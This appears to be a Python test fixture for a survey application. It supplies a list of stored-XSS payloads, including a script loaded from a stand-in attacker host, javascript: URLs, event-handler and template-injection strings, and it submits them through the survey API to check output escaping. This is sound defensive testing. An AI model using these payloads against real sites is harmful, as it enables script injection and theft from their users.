"""The stored-XSS corpus and the questionnaire built from it, shared by the HTTP checks
(`tests/security/test_xss.py`) and the browser run (`tests/browser/test_xss_browser.py`).

Every text of the `xss` survey, in every language (Arabic right-to-left included), is a
payload; the answers sent by `submit_payload_answers` are payloads as well.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(2)</script>',
    "'><script>alert(3)</script>",
    '"><img src=x onerror=alert(4)>',
    "<img src=x onerror=alert(5)//",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    '<a href="javascript:alert(8)">link</a>',
    "javascript:alert(9)",
    "<iframe src=javascript:alert(10)></iframe>",
    "<body onload=alert(11)>",
    '<input autofocus onfocus="alert(12)">',
    "<details open ontoggle=alert(13)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(14)">',
    "<object data=javascript:alert(15)>",
    "<embed src=javascript:alert(16)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(17)">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><button>go</button></form>',
    "<style>*{background:url(javascript:alert(19))}</style>",
    '<div style="background:url(javascript:alert(20))">x</div>',
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "<!--",
    "]]><script>alert(21)</script>",
    "</textarea><script>alert(22)</script>",
    "</title><script>alert(23)</script>",
    '" onmouseover="alert(24)" x="',
    "' onmouseover='alert(25)' x='",
    "&lt;script&gt;alert(26)&lt;/script&gt;",
    "<scr<script>ipt>alert(27)</script>",
    "\u202e<script>alert(28)</script>",
    "ﺍﻟ<img src=x onerror=alert(29)>عربي",
]
LANGUAGES = ("de", "en", "ar")


def _payloads() -> Iterator[str]:
    return itertools.cycle(CORPUS)


def _text(payloads: Iterator[str]) -> dict[str, str]:
    return {language: next(payloads) for language in LANGUAGES}


def xss_questionnaire() -> dict[str, Any]:
    """A survey whose every text, in every language, is a payload; one note per payload
    as well, so that each payload is shown at least once in each language."""
    p = _payloads()
    choices = [{"name": f"c{i}", "label": _text(p)} for i in range(4)]
    notes = [
        {"name": f"note_{i}", "type": "note", "label": dict.fromkeys(LANGUAGES, payload)}
        for i, payload in enumerate(CORPUS)
    ]
    return {
        "id": "xss",
        "version": "1",
        "title": _text(p),
        "description": _text(p),
        "languages": list(LANGUAGES),
        "default_language": "de",
        "min_cell": 1,
        "audience": "anonymous",
        "privacy_notice": _text(p),
        "thank_you": _text(p),
        "choices": {"options": choices},
        "pages": [
            {
                "name": "first",
                "title": _text(p),
                "questions": [
                    {
                        "name": "comment",
                        "type": "text",
                        "label": _text(p),
                        "hint": _text(p),
                        "working_groups": ["arbeit"],
                    },
                    {
                        "name": "age",
                        "type": "integer",
                        "label": _text(p),
                        "hint": _text(p),
                        "constraint": ". >= 16",
                        "constraint_message": _text(p),
                        "working_groups": ["arbeit"],
                    },
                    {
                        "name": "pick",
                        "type": "select_one",
                        "choices": "options",
                        "label": _text(p),
                        "working_groups": ["arbeit"],
                    },
                    *notes,
                ],
            },
            {
                "name": "second",
                "title": _text(p),
                "questions": [
                    {
                        "name": "many",
                        "type": "select_multiple",
                        "choices": "options",
                        "label": _text(p),
                        "hint": _text(p),
                        "working_groups": ["arbeit"],
                    }
                ],
            },
        ],
    }


def working_groups() -> dict[str, Any]:
    p = _payloads()
    ids = ("sprache", "arbeit", "beratung", "wohnen", "projekte")
    return {"working_groups": [{"id": group, "name": _text(p)} for group in ids]}


def write_xss_questionnaires(directory: Path) -> Path:
    """`xss.yaml` and a working-group catalogue of payload names in `directory`."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "xss.yaml").write_text(yaml.safe_dump(xss_questionnaire(), allow_unicode=True))
    (directory / "working_groups.yaml").write_text(
        yaml.safe_dump(working_groups(), allow_unicode=True)
    )
    return directory


def submit_payload_answers(client: Any) -> None:
    """One response per payload (its text answer), through the submission API of `client`
    (an in-process test client or an httpx client of a live server)."""
    for index, payload in enumerate(CORPUS):
        response = client.post(
            "/api/v1/surveys/xss/responses",
            json={
                "submission_id": f"xss-{index}",
                "language": LANGUAGES[index % len(LANGUAGES)],
                "answers": {"comment": payload, "age": 30, "pick": "c1", "many": ["c0", "c2"]},
            },
        )
        assert response.status_code == 201, response.text
